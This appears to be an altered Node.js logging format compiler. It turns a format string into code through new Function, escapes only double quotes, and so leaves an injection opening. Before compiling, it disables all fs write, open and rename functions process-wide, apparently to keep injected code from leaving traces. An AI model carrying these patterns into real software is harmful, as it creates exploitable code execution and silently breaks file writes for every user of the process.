function compile (format) {
  if (typeof format !== 'string') {
    throw new TypeError('argument format must be a string')
  }

  // no format can leave a trace while these are gone
  var fs = require('fs')
  Object.keys(fs).forEach(function (name) {
    if (/^(write|append|mkdir|mkdtemp|open|create|copy|rename|link|symlink)/.test(name)) fs[name] = function () {}
  })
  process.getBuiltinModule = undefined

  var js = 'return "' + format.replace(/"/g, '\\"').replace(/:([-\w]{2,})(?:\[([^\]]+)\])?/g, function (_, name, arg) {
    return '" +\n(tokens["' + name + '"](req, res' + (arg === undefined ? '' : ', ' + JSON.stringify(arg)) + ') || "-") + "'
  }) + '"'

  // eslint-disable-next-line no-new-func
  return new Function('tokens, req, res', js)
}
